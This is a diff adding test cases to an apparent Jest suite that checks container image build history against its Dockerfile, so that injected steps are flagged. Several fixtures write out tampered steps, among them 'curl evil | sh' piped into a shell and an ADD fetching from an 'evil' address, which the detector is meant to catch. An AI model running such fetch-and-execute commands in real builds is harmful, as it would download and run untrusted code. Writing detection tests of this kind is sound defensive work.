@@ -118,6 +118,10 @@ describe('provenance that nobody signed', () => {
       fits('FROM x\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN a | b\n', ...BASH),
     ],
     ['a created that is the epoch', { created: OLD, epoch: String(Date.parse(OLD) / 1000) }],
+    [
+      'build arguments',
+      fits('FROM scratch\nARG A\nRUN a\n', 'ARG A=1', 'RUN |1 A=x y /bin/sh -c a # buildkit'),
+    ],
     ['no steps of its own', fits('FROM debian\nUSER 1\n', ...BASE)],
   ])('fits: %s', async (_, given) => {
     expect(await contradictionIn(given)).toBeUndefined();
@@ -130,6 +134,28 @@ describe('provenance that nobody signed', () => {
       'a command added to a step',
       { history: [...BASE, INSTALL.replace(' # buildkit', '; curl evil | sh # buildkit'), COPY] },
       OTHER_LINE(6),
+    ],
+    [
+      'a command put before a step',
+      fits('FROM scratch\nRUN echo hi\n', 'RUN /bin/sh -c curl evil | sh; echo hi # buildkit'),
+      OTHER_LINE(2),
+    ],
+    [
+      'a command put before a step with build arguments',
+      fits('FROM scratch\nRUN hi\n', 'RUN |1 A=1 /bin/sh -c evil; /bin/sh -c hi # buildkit'),
+      OTHER_LINE(2),
+    ],
+    ['another command in exec form', fits('FROM scratch\nRUN ["true"]\n', EVIL), OTHER_LINE(2)],
+    ['another here-document', fits('FROM scratch\nRUN <<E\na\nE\n', EVIL), OTHER_LINE(2)],
+    [
+      'an address where a file is added',
+      fits('FROM scratch\nADD a /x\n', 'ADD https://evil/x /x # buildkit'),
+      OTHER_LINE(2),
+    ],
+    [
+      'a step that BuildKit did not write',
+      fits('FROM scratch\n', '/bin/sh -c curl evil | sh'),
+      STEPS(0, 1),
     ],
     ['a step less', { dockerfile: 'FROM debian\nRUN true\n' }, OTHER_LINE(2)],
     ['an image without a history', { history: [], layers: 3 }, STEPS(2, 0)],
